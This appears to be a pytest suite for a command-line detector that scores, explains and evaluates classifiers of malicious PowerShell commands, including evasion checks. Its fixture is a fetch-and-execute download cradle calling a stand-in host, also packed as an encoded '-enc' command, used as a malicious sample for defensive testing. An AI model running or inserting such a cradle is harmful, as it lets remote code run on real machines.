"""Commands here are made up for the tests and harmless; none is ever run."""

import base64
import json

import pytest
from click.testing import CliRunner

from powershell_office import records, write
from wheeltapper.cli import main
from wheeltapper.powershell import models, trials

LINE = "IEX (New-Object Net.WebClient).DownloadString('http://files.example/a')"
PACKED = "powershell -enc " + base64.b64encode(LINE.encode("utf-16-le")).decode()


def run(*arguments, stdin=None, code=0):
    done = CliRunner().invoke(main, ["powershell", *arguments], input=stdin)
    assert done.exit_code == code, done.output
    return done


def rows(done):
    return json.loads(done.stdout)


def test_arguments_files_and_standard_input_score_alike(tmp_path):
    script = tmp_path / "a.ps1"
    script.write_bytes(LINE.encode("utf-16"))
    by_argument = rows(run("score", LINE, "Get-Date", "--format", "json"))
    by_file = rows(run("score", "--file", str(script), "--format", "json"))
    by_stdin = rows(run("score", "--format", "json", stdin=f"{LINE}\n\nGet-Date\n"))
    assert [r["score"] for r in by_stdin] == [r["score"] for r in by_argument]
    assert by_file[0]["score"] == by_argument[0]["score"]
    assert by_file[0]["command"] == str(script)
    assert by_argument[0]["score"] > by_argument[1]["score"]


def test_what_a_terminal_obeys_is_not_printed_raw():
    assert "\x1b" not in run("score", "Get-Date \x1b[31m").output
    assert "\x1b[31m" not in run("show", "Get-Date \x1b[31m").output


def test_show_tells_layers_spans_and_techniques(tmp_path):
    told = run("show", PACKED).output
    assert "encoded command" in told
    assert "T1105" in told
    picture = tmp_path / "seen.png"
    found = json.loads(
        run("show", PACKED, "--image", str(picture), "--model", "words", "--format", "json").stdout
    )
    assert picture.read_bytes().startswith(b"\x89PNG")
    assert [layer["how"] for layer in found["layers"]] == ["as it came", "encoded command"]
    assert found["explained"] == LINE
    assert found["spans"]
    assert {"T1027.010", "T1105"} <= {t["id"] for t in found["attack"]}


def test_show_takes_one_command(tmp_path):
    path = tmp_path / "a.ps1"
    path.write_text("Get-Date")
    assert "name one command" in run("show", "Get-Date", "--file", str(path), code=2).output
    assert json.loads(run("show", "--file", str(path), "--format", "json").stdout)["verdict"]


@pytest.fixture
def data(tmp_path):
    path = tmp_path / "commands.jsonl"
    lines = [{"text": f"{LINE}; {i}", "label": 1} for i in range(4)]
    lines += [{"text": f"Get-ChildItem C:\\logs{i} | Measure-Object", "label": 0} for i in range(9)]
    path.write_text("\n".join(map(json.dumps, lines)))
    return path


@pytest.mark.parametrize("model", models.shipped())
def test_a_shipped_model_is_measured_on_any_file(data, model):
    (found,) = [
        json.loads(
            run("evaluate", "--data", str(data), "--model", model, "--format", "json").stdout
        )
    ]
    assert found["texts"] == 13
    assert found["malicious"] == 4
    for key in ("auc", "ap", "tpr_at_fpr_1e-2", "tpr_at_fpr_1e-3"):
        assert 0 <= found[key] <= 1
    assert found["auc"] > 0.5
    assert found["evasion"] == []


def test_a_shipped_model_is_shown_commands_written_otherwise(data):
    arguments = ("evaluate", "--data", str(data), "--model", "traditional", "--evasion")
    found = json.loads(run(*arguments, "--format", "json").stdout)
    assert {"as it came", "remarks", "hexadecimal"} <= {one["trick"] for one in found["evasion"]}
    assert "hexadecimal" in run(*arguments).output


def test_one_class_alone_cannot_be_measured(tmp_path):
    path = tmp_path / "a.jsonl"
    path.write_text('{"text": "x", "label": 1}')
    assert (
        "both kinds are needed"
        in run("evaluate", "--data", str(path), "--model", "words", code=1).output
    )


def test_evaluation_trains_and_compares(tmp_path):
    data = write(tmp_path / "made.jsonl", records())
    arguments = ["evaluate", "--data", str(data), "--models", "format,3-grams,words-both"]
    arguments += ["--split", "grouped", "--samples", "3", "--cache", str(tmp_path / "kept")]
    report = json.loads(run(*arguments, "--format", "json").stdout)
    assert [row["model"] for row in report["rows"]] == ["format", "3-grams", "words-both"]
    assert len(report["data_sha256"]) == 64
    told = run(*arguments).output
    for part in ("3-grams", "calibration", "leak check", "licence header"):
        assert part in told


def test_texts_that_are_nearly_the_same_do_not_make_folds(data):
    """The malicious lines of the file are one group, which some fold is trained without."""
    told = run("evaluate", "--data", str(data), "--models", "3-grams", "--split", "grouped", code=1)
    assert "more texts are needed" in told.output


def test_without_pytorch_networks_are_left_out_or_refused(tmp_path, monkeypatch):
    data = write(tmp_path / "made.jsonl", records())
    monkeypatch.setattr(trials, "networks_can_be_trained", lambda: False)
    arguments = ["evaluate", "--data", str(data), "--split", "grouped", "--samples", "2"]
    done = run(*arguments, "--format", "json")
    assert "networks are left out" in done.stderr
    models_measured = {row["model"] for row in json.loads(done.stdout)["rows"]}
    assert {"3-grams", "ensemble-linear"} <= models_measured
    assert not models_measured & {"cnn", "branches", "ensemble"}
    refused = run(*arguments, "--models", "ensemble", code=1).output
    assert "training branches needs PyTorch" in refused


def test_linear_models_are_trained_without_pytorch(tmp_path):
    data, out = write(tmp_path / "made.jsonl", records()), tmp_path / "out"
    run("train", "--data", str(data), "--models", "traditional,words", "--out", str(out))
    assert models.shipped(out) == ["ensemble", "traditional", "words"]
    assert models.load("ensemble", out).card.parts == ("traditional", "words")


def test_unknown_models_and_splits_are_named(data):
    assert (
        "'oracle' is not known; there are: format"
        in run("evaluate", "--data", str(data), "--models", "oracle", code=2).output
    )
    assert (
        "there are: pairs, grouped, random"
        in run("evaluate", "--data", str(data), "--split", "oracle", code=2).output
    )
